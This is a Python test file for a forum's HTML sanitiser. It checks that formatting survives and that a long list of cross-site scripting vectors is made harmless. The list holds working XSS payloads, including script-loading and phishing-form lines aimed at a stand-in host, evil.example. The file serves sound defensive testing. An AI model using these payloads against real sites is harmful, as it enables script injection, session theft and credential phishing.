"""What posts may hold: formatting comes through, everything hostile goes."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exchange.discussions.formatting import (
    ATTRIBUTES,
    TAGS,
    clean_html,
    editor_html,
    html_of_text,
    quote_of,
    shortened,
    text_of_html,
    typed_text_of_html,
    without_mentions,
)

LINK = '<a href="https://kehl.example/" rel="nofollow ugc noopener">'

# Ways to run a script or to look like the site, written for this test: elements, attributes, addresses, encodings,
# broken mark-up, other languages inside HTML, and mutations that only a parser makes.
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script >alert(1)</script\t>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    '<img """><script>alert("x")</script>">',
    "<img src='javascript:alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea></textarea><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password><button>Anmelden</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://evil.example/' onclick=alert(1)>x</a>",
    "<a href='https://evil.example/' style='position:fixed;inset:0'>x</a>",
    "<a href='https://evil.example/' target=_top id=inhalt class='kern-btn' name=csrfmiddlewaretoken>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    '<div style="width:expression(alert(1))">x</div>',
    "<div onmouseover=alert(1)>x</div>",
    "<div class='site-header' id='inhalt'>x</div>",
    "<p hidden data-editor-texts data-members='https://evil.example/'>x</p>",
    "<form id=beitraege></form>",
    "<span class='mention'>@Tobias Frey</span>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<table><td background='javascript:alert(1)'>x</table>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<custom-element onfocus=alert(1) tabindex=1>x</custom-element>",
    "<trix-editor input=x></trix-editor>",
    '<div data-trix-attachment=\'{"contentType":"text/html","content":"<img src=x onerror=alert(1)>"}\'></div>',
    "<figure data-trix-attachment='{}' onload=alert(1)><img src=x></figure>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    'https://evil.example/"onmouseover=alert(1)//',
    "https://evil.example/'><img src=x onerror=alert(1)>",
    "www.evil.example/<script>alert(1)</script>",
    "\u202ehttps://evil.example/\u202c",
    '<a href="https://evil.example/?a=>"><img src=x onerror=alert(1)></a>',
    "<a title='><img src=x onerror=alert(1)>' href='https://evil.example/'>x</a>",
    "<<b>script>alert(1)<</b>/script>",
    "<b/onclick=alert(1)>x</b>",
    "<p/**/onclick=alert(1)>x</p>",
    "<pre><code>\n<script>alert(1)</script></code></pre>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<ol start='javascript:alert(1)' type=x><li value=1 onclick=alert(1)>x</ol>",
    "\0<script\0>alert(1)</script\0>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href='https://kehl.example/\0javascript:alert(1)'>x</a>",
)


class _Strict(HTMLParser):
    """Fails on every element and attribute that posts may not have."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Known elements, and on links an address that leads somewhere and what it is worth."""
        assert tag in TAGS, tag
        for name, value in attrs:
            assert tag == "a"
            assert name in {"rel", *ATTRIBUTES["a"]}, (tag, name)
            if name == "href":
                assert re.match(r"(https?://|mailto:|/|#|\?|[^:]*$)", value or ""), value

    def handle_comment(self, data: str) -> None:
        """None at all."""
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment  # type: ignore[assignment]


def assert_harmless(html: str) -> None:
    """Nothing in it but what posts may have."""
    parser = _Strict(convert_charrefs=False)
    parser.feed(html)
    parser.close()


@pytest.mark.parametrize("vector", HOSTILE)
def test_hostile_input_becomes_harmless(vector: str) -> None:
    for html in (clean_html(vector), clean_html(f"<div>davor {vector} danach</div>"), html_of_text(vector)):
        assert_harmless(html)
        assert clean_html(html) == html


@given(st.text(alphabet="<>\"'=/&;:#-! \n\0abhijprstx", max_size=60))
def test_whatever_is_put_together_becomes_harmless(text: str) -> None:
    for html in (clean_html(text), html_of_text(text)):
        assert_harmless(html)


def test_formatting_comes_through() -> None:
    html = (
        "<div><strong>fett</strong>, <em>kursiv</em>, <del>weg</del><br>neue Zeile</div>"
        "<blockquote>Zitat</blockquote><ul><li>eins</li></ul><ol><li>zwei</li></ol><pre>code</pre>"
    )
    assert clean_html(html) == html


def test_addresses_become_links_once() -> None:
    assert clean_html("<div>Siehe https://kehl.example/.</div>") == f"<div>Siehe {LINK}https://kehl.example/</a>.</div>"
    linked = f"<div>{LINK}Kehl</a></div>"
    assert clean_html(linked) == linked
    assert clean_html('<a href="/loesungen/zammad/">Zammad</a>').startswith('<a href="/loesungen/zammad/"')


def test_plain_text_keeps_its_shape() -> None:
    assert html_of_text("Eins\nzwei\n\nDrei <b>") == "<p>Eins<br>zwei</p><p>Drei &lt;b&gt;</p>"
    assert html_of_text("> Zitat\n> weiter\nAntwort") == "<blockquote><p>Zitat<br>weiter</p></blockquote><p>Antwort</p>"
    assert html_of_text("   \n ") == ""


def test_words_of_html() -> None:
    assert text_of_html("<p>Eins<br>zwei &amp; drei</p><ul><li>vier</li><li>fünf</li></ul>") == (
        "Eins\nzwei & drei\nvier\nfünf"
    )


@pytest.mark.parametrize(
    ("html", "for_editor"),
    [
        ("<p>Eins</p><p>zwei</p>", "<div>Eins<br><br>zwei</div>"),
        ("<div>Eins</div><div>zwei</div>", "<div>Eins<br>zwei</div>"),
        ("<blockquote><p>Eins</p><div>zwei</div></blockquote>", "<blockquote><div>Eins<br><br>zwei</div></blockquote>"),
        ("<ul><li>Eins</li></ul><p>zwei</p>", "<ul><li>Eins</li></ul><div>zwei</div>"),
    ],
)
def test_the_editor_gets_no_paragraphs(html: str, for_editor: str) -> None:
    assert editor_html(html) == for_editor


def test_without_the_editor_quotes_stay_quotes() -> None:
    quote = quote_of("<p>Eins</p><div>zwei<br><br>drei</div>", "Kim", ())
    typed = typed_text_of_html(quote)
    assert typed == "> Kim:\n>\n> Eins\n>\n> zwei\n>\n> drei\n\n"
    assert html_of_text(typed + "Antwort") == (
        "<blockquote><p>Kim:<br><br>Eins<br><br>zwei<br><br>drei</p></blockquote><p>Antwort</p>"
    )
    assert typed_text_of_html("<p>Ohne</p><p>Zitat</p>") == "Ohne\n\nZitat"


def test_quotes_keep_known_names_as_they_are_typed() -> None:
    html = '<p>Danke <span class="mention">@Vera Muster</span> <span class="mention">@Kim Weg</span> &lt;3</p>'
    assert quote_of(html, "Kim <b>", {"Vera Muster"}) == (
        "<blockquote><p><em>Kim &lt;b&gt;:</em></p><p>Danke @Vera Muster @… &lt;3</p></blockquote><p><br></p>"
    )
    assert without_mentions('<p><span class="mention">@Vera Muster</span>?</p>') == "<p>@…?</p>"


@pytest.mark.parametrize(
    ("text", "start", "length"),
    [("kurz  und\ngut", "kurz und gut", 12), ("Wort, " * 60, "Wort, Wort", 276), ("a" * 400, "aaa", 282)],
    ids=["short", "words", "one word"],
)
def test_texts_are_shortened_between_words(text: str, start: str, length: int) -> None:
    found = shortened(text)
    assert found.startswith(start)
    assert len(found) == length
    assert "," not in found[-4:]
